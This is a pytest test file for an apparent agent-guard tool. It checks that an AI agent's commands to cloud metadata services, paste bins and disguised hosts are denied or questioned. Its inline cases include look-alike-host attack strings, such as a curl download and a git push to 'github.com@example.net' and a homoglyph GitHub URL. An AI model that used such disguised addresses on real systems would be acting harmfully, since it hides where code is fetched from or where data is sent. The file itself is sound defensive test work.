"""Metadata services, paste bins, and the user's list of hosts, end to end."""

from importlib import resources
from pathlib import Path

import pytest

from tallystick.guard.decide import Decider
from tallystick.guard.grounds import AgentMachine
from tallystick.journal.home import Home
from tallystick.model.decision import Call
from tallystick.policy.risks import metadata
from tallystick.policy.settings import Settings
from tests.policy.laid_out import Laid
from tests.support.cases import cases, each_case


@pytest.fixture(scope="module")
def laid(tmp_path_factory: pytest.TempPathFactory) -> Laid:
    return Laid(tmp_path_factory.mktemp("laid"))


@each_case("command")
def test_no_command_reaches_the_metadata_service(laid: Laid, command: str) -> None:
    effect, rules = laid.said(command)
    assert effect == "deny"
    assert any(rule.startswith("network.metadata") for rule in rules) or "remote.shell" in rules


@each_case("tool, args")
def test_no_other_tool_does(laid: Laid, tool: str, args: dict[str, object]) -> None:
    assert laid.call(tool, args)[0] == "deny"


@each_case("tool, args")
def test_who_merely_names_it_is_let_be(laid: Laid, tool: str, args: dict[str, object]) -> None:
    assert laid.call(tool, args)[0] in ("allow", "warn")


@each_case("command")
def test_what_goes_to_a_paste_bin_is_asked_about(laid: Laid, command: str) -> None:
    effect, rules = laid.said(command)
    assert effect in ("ask", "deny")
    assert "network.paste" in rules


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("Bash", {"command": "curl -O https://github.com@example.net/x.tgz"}),
        ("Bash", {"command": "git push https://github.com%2Fdev@example.net/shop.git main"}),
        ("WebFetch", {"url": "https://g\u0456thub.com/x", "prompt": "read it"}),
    ],
)
def test_an_address_that_reads_as_another_is_asked_about(laid: Laid, tool: str, args: dict[str, object]) -> None:
    effect, rules = laid.call(tool, args)
    assert effect in ("ask", "deny")
    assert "network.disguised" in rules


def test_reading_a_paste_is_not(laid: Laid) -> None:
    assert laid.said("curl -s https://pastebin.com/raw/abc")[0] == "allow"


LISTED = cases(__file__, "listed", tuple[tuple[str, str], ...])


@pytest.mark.parametrize(("command", "effect"), LISTED)
def test_with_a_list_of_hosts_data_goes_nowhere_else(tmp_path: Path, command: str, effect: str) -> None:
    (tmp_path / "dev" / "project").mkdir(parents=True)
    decider = Decider(
        Home(tmp_path / "store"), AgentMachine(tmp_path / "dev"), settings=Settings(hosts=("api.example.org",))
    )
    folder = str(tmp_path / "dev" / "project")
    call = Call(agent="claude-code", session="s", tool="Bash", args={"command": command}, cwd=folder)
    assert str(decider.decide(call).effect) == effect


def test_each_risk_is_asked_for_by_a_policy() -> None:
    text = (resources.files("tallystick.policy") / "shipped" / "network.cedar").read_text("utf-8")
    assert {word for word in metadata.RISKS if f'"{word}"' not in text} == set()
